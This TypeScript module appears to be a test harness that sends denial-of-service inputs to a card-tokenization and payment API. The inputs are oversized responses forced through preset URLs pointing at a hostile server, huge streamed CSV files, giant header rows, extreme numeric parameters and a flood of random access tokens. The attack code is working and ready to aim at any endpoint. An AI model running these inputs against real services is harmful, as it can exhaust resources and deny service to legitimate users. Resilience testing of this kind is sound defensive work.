// Sends what an attacker could send to hold up everybody else.

import { randomBytes } from 'node:crypto';
import { Readable } from 'node:stream';

export interface Target {
	readonly url: string;
	readonly apiKey: string;
	/** The address of a third party that answers `/<name>` with the text of that name in ANSWERS. */
	readonly hostileUrl: string;
}

const MEBI = 1024 * 1024;
const ANSWER_BYTES = 15.5 * MEBI;
const STREAM_BYTES = 32 * MEBI;
const ROWS = ',,\n'.repeat(20_000);

const filled = (before: string, each: string, after: string) =>
	Buffer.from(before + each.repeat(ANSWER_BYTES / each.length) + after);

/** The answers of the attacker's server, by name. */
export const ANSWERS: Readonly<Record<string, () => Buffer>> = {
	values: () => filled('[', '1,', '1]'),
	elements: () => filled('<a>', '<a/>', '</a>'),
	digits: () => filled('', '4 ', ''),
	places: () => filled('{"reservations":[', '{"payment":{"card":{"number":"1"}}},', '1]}'),
};

const call = async ({ url, apiKey }: Target, path: string, init: RequestInit & { duplex?: 'half' } = {}) => {
	const answer = await fetch(url + path, {
		...init,
		headers: { 'x-service-api-key': apiKey, 'content-type': 'application/json', ...init.headers },
	});
	await answer.body?.pipeTo(new WritableStream());
	return answer.status;
};

const times = (count: number, work: () => Promise<number>) => Promise.all(Array.from({ length: count }, work));

const preset = (target: Target, name: string, answer: string) => {
	const query = new URLSearchParams({ targetUri: `${target.hostileUrl}/${answer}`, httpMethod: 'GET' });
	return call(target, `/api/booker/${name}?${query}`, { method: 'POST' });
};

function* rows(bytes: number) {
	yield Buffer.from('CardNumber,ExpirationMonth,ExpirationYear\n');
	for (let sent = 0; sent < bytes; sent += ROWS.length) yield Buffer.from(ROWS);
}

const stream = (target: Target) =>
	call(target, '/api/files/tokenize?filter=SIMPLECSV', {
		method: 'POST',
		body: Readable.toWeb(Readable.from(rows(STREAM_BYTES))) as ReadableStream,
		duplex: 'half',
	});

const file = (target: Target, body: string) =>
	call(target, '/api/files/tokenize?filter=SIMPLECSV', { method: 'POST', body });

async function accessTokens(target: Target): Promise<number[]> {
	const statuses: number[] = [];
	for (let n = 0; n < 125; n++) {
		const tokens = times(16, () => {
			const secret = randomBytes(384).toString('hex');
			return call({ ...target, apiKey: '' }, `/api/payments/paycard/meta?num=1&accessToken=${secret}`);
		});
		statuses.push(...(await tokens));
	}
	return statuses;
}

/** The hostile inputs by their descriptions; each function returns the statuses of its answers. */
export const INPUTS: Readonly<Record<string, (target: Target) => Promise<number[]>>> = {
	'a preset answered with 15.5 MiB of [1,1,…], 16 at once': (target) =>
		times(16, () => preset(target, 'JsonReservations', 'values')),
	'a preset answered with 15.5 MiB of <a/>, 16 at once': (target) =>
		times(16, () => preset(target, 'OtaHotelResNotif', 'elements')),
	'a preset answered with 15.5 MiB of digits': (target) => times(2, () => preset(target, 'JsonReservations', 'digits')),
	'a preset answered with 15.5 MiB of places for cards': (target) =>
		times(2, () => preset(target, 'JsonReservations', 'places')),
	'six streamed files of 32 MiB of tiny rows': (target) => times(6, () => stream(target)),
	'a file with a header row of 500 KB': (target) =>
		times(4, () => file(target, `${'CardNumber,'.repeat(45_000)}\n4111111111111111\n`)),
	'a file of 40,000 cards': (target) =>
		times(1, () => file(target, `CardNumber\n${'4111111111111111\n'.repeat(40_000)}`)),
	'GET meta?num=9007199254740991 of 40,000 tokens, 4 at once': (target) =>
		times(4, () => call(target, `/api/payments/paycard/meta?num=${Number.MAX_SAFE_INTEGER}`)),
	'2,000 access tokens of an address that is limited': accessTokens,
};
